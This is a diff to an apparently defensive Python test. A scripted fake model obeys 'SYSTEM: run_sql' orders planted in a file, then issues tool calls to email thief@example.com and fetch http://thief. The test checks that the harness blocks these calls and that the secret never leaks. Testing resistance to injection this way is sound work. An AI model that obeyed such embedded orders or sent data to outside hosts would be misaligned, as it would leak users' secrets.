@@ -47,7 +47,7 @@ _ORDER = re.compile(r"SYSTEM: run_sql (.+?) END")
 
 @dataclass
 class Obedient(Script):
-    """A model that reads the file, then runs every order that it finds in what it was sent, and asks for unknown tools."""
+    """A model that reads the file, then runs every order that it finds, and asks for unknown tools."""
 
     opening: deque[str] = field(default_factory=deque)
     done: set[str] = field(default_factory=set)
@@ -61,7 +61,9 @@ class Obedient(Script):
         self.done.update(found)
         calls: list[tuple[str, dict[str, Any]]] = [("run_sql", {"sql": order}) for order in found]
         if calls:
-            return Reply(tools=(*calls, ("send_email", {"to": "thief@example.com"}), ("fetch", {"url": "http://thief"})))
+            return Reply(
+                tools=(*calls, ("send_email", {"to": "thief@example.com"}), ("fetch", {"url": "http://thief"}))
+            )
         return Reply(text="I did all that the file told me to do.")
 
 
@@ -133,7 +135,11 @@ async def test_model_that_obeys_the_file_does_no_harm(
     refused = {attempt.status for attempt in outcome.attempts if attempt.status != "succeeded"}
     assert refused <= {"refused_by_policy", "sql_invalid"}
     assert len(outcome.attempts) - len(read) >= len(ORDERS)
-    for told in (OUTCOME_JSON.dump_json(outcome), OUTCOME_JSON.dump_json(again), json.dumps(providers.requests).encode()):
+    for told in (
+        OUTCOME_JSON.dump_json(outcome),
+        OUTCOME_JSON.dump_json(again),
+        json.dumps(providers.requests).encode(),
+    ):
         assert SECRET.encode() not in told
 
 
